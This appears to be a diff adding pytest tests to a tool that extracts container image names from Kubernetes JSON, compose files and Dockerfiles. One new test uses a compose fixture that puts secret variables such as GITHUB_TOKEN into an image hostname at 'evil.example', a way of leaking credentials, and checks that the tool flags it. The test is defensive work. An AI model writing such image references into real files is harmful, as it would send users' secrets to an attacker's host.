@@ -93,6 +93,18 @@ def test_lists_of_objects_and_json_are_read() -> None:
     assert named(text) == [(3, "reg.example/a"), (4, "reg.example/b")]
 
 
+def test_objects_of_json_may_follow_each_other() -> None:
+    """As several calls of kubectl give them, or jq's `.items[]`."""
+    pod = '{{"apiVersion": "v1", "kind": "Pod", "spec": {{"containers": [{{"image": "{}"}}]}}}}\n'
+    assert named(pod.format("a") + pod.format("b"), "-") == [(1, "a"), (2, "b")]
+    tall = pod.replace('"spec"', '\n"spec"')[:-3] + "\n}}\n"
+    assert named(tall.format("a") + tall.format("b"), "x.json") == [(2, "a"), (5, "b")]
+    broken = pod.format("a") + "{]\n" + pod.format("b")
+    assert (named(broken, "-"), [line for line, _ in problems(broken, "-")]) == ([(1, "a")], [2])
+    flow = "items:\n- {image: a}\n- {image: b,\nx: {}\n}\n"
+    assert problems(flow, "a.yaml") == []
+
+
 def test_what_only_looks_like_a_pod_is_not_read() -> None:
     text = """\
     apiVersion: v1
@@ -283,6 +295,19 @@ def test_a_compose_variable_without_a_value_is_a_problem() -> None:
     assert "NOWHERE" in entry.problem
 
 
+@pytest.mark.parametrize("name", ["REGISTRY_PASSWORD", "GITHUB_TOKEN", "DB_PASS"])
+def test_no_secret_is_put_into_the_name_of_an_image(name: str) -> None:
+    """Else a file of somebody's could have it sent to a host of theirs."""
+    text = f"services:\n  a:\n    image: ${{{name}}}.evil.example/${{TAG_OF_TOKENS}}\n"
+    [entry] = images_in("compose.yaml", text, {name: "s3cret", "TAG_OF_TOKENS": "1"})
+    assert "called like a secret" in (entry.problem or "")
+    assert "s3cret" not in entry.text
+    assert named(f"services:\n  a:\n    image: x:${{{name}:-1}}\n", **{name: "s"}) == [(3, "x:1")]
+    assert named("services:\n  a:\n    image: x:${TAG_OF_TOKENS}\n", TAG_OF_TOKENS="1") == [
+        (3, "x:1")
+    ]
+
+
 @pytest.mark.parametrize(
     ("written", "image"),
     [
@@ -436,7 +461,7 @@ def test_a_dockerfile_says_for_which_platform_each_image_is() -> None:
     text = """\
         ARG OLD=linux/386
         FROM --platform=$BUILDPLATFORM a
-        FROM --platform=linux/s390x b AS s
+        FROM --platform="linux/s390x" b AS s
         FROM --platform=${OLD} c
         FROM --platform=$NOWHERE d
         FROM e-${TARGETARCH}${TARGETVARIANT}
